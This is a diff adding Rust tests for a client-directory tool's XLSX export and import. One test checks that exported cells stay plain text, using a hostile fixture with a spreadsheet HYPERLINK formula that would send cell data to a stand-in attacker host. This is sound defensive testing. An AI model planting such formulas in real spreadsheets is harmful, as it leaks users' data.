@@ -495,6 +495,91 @@ fn export_neutralises_formulas_and_reads_back_exactly() {
 }
 
 #[test]
+fn xlsx_export_has_text_cells_only_and_reads_back_exactly() {
+    use calamine::{Data, Reader};
+    let home = Home::new();
+    let csv = home.write("hostile.csv", HOSTILE.as_bytes());
+    let first = home.path("first.sqlite");
+    home.ok(&["directory", "--file", s(&first), "import", s(&csv)]);
+    let book = home.path("clients.XLSX");
+    let stderr = home.ok(&["directory", "--file", s(&first), "export", s(&book)]);
+    assert!(stderr.contains("3 clients written"), "{stderr}");
+    assert_eq!(mode(&book), 0o600);
+
+    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook(&book).expect("a workbook");
+    let formulas = workbook.worksheet_formula("clients").expect("formulas");
+    assert!(
+        formulas.used_cells().next().is_none(),
+        "a formula was written"
+    );
+    let range = workbook.worksheet_range("clients").expect("sheet");
+    let cell = |row: usize, col: usize| range.get((row, col)).cloned().unwrap_or(Data::Empty);
+    assert_eq!(cell(0, 4), Data::String("phones".into()));
+    let hostile = (1..range.height())
+        .find(|&r| cell(r, 0) == Data::String("2001".into()))
+        .expect("2001");
+    assert_eq!(
+        cell(hostile, 1),
+        Data::String("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into())
+    );
+    assert_eq!(cell(hostile, 4), Data::String("+79160000001".into()));
+    assert_eq!(cell(hostile, 5), Data::String("=x@y.com".into()));
+    for (_, _, value) in range.used_cells() {
+        assert!(matches!(value, Data::String(_)), "{value:?} is not text");
+    }
+
+    let second = home.path("second.sqlite");
+    let stderr = home.ok(&["directory", "--file", s(&second), "import", s(&book)]);
+    assert!(stderr.contains("3 rows: 3 clients added"), "{stderr}");
+    assert!(!stderr.contains("UTF-8"), "{stderr}");
+    assert_eq!(entries(&second), entries(&first));
+}
+
+#[test]
+fn an_xlsx_typed_in_excel_imports_with_numbers_as_phones_and_rows_by_number() {
+    let home = Home::new();
+    let book = home.path("typed.xlsx");
+    let mut workbook = rust_xlsxwriter::Workbook::new();
+    let sheet = workbook.add_worksheet();
+    for (col, name) in (0u16..).zip(["ID", "LastName", "Phones", "Emails"]) {
+        sheet.write_string(0, col, name).expect("header");
+    }
+    sheet.write_number(1, 0, 7001.0).expect("id");
+    sheet.write_string(1, 1, "Орлова").expect("name");
+    sheet
+        .write_number(1, 2, 89160000007.0)
+        .expect("phone as a number");
+    sheet
+        .write_string(1, 3, "o@x.ru; orlova@x.ru")
+        .expect("emails");
+    // Row 3 left empty; row 4 has no id.
+    sheet.write_string(3, 1, "Безымянный").expect("name");
+    sheet.write_string(4, 0, "7002").expect("id");
+    sheet
+        .write_string(4, 2, "+7 916 000-00-08\n8 495 765-43-21")
+        .expect("phones");
+    workbook.save(&book).expect("save");
+
+    let db = home.path("directory.sqlite");
+    let out = home.run(&["directory", "--file", s(&db), "import", s(&book)]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "{stderr}");
+    assert!(stderr.contains("skipped line 4: no id"), "{stderr}");
+    assert!(stderr.contains("3 rows: 2 clients added"), "{stderr}");
+    let dir = Directory::open(&db).expect("open");
+    let orlova = dir.get("7001").expect("get").expect("imported");
+    assert_eq!(orlova.phones, ["+79160000007"]);
+    assert_eq!(orlova.emails, ["o@x.ru", "orlova@x.ru"]);
+    let other = dir.get("7002").expect("get").expect("imported");
+    assert_eq!(other.phones, ["+79160000008", "+74957654321"]);
+
+    // Not a workbook at all.
+    let fake = home.write("fake.xlsx", b"id;lastname\n1;x\n");
+    let stderr = refused(&home, &["directory", "--file", s(&db), "import", s(&fake)]);
+    assert!(stderr.contains("not a workbook"), "{stderr}");
+}
+
+#[test]
 fn city_code_from_the_config_completes_city_numbers() {
     let home = Home::new();
     let config = home.path("config/crmcard/config.toml");
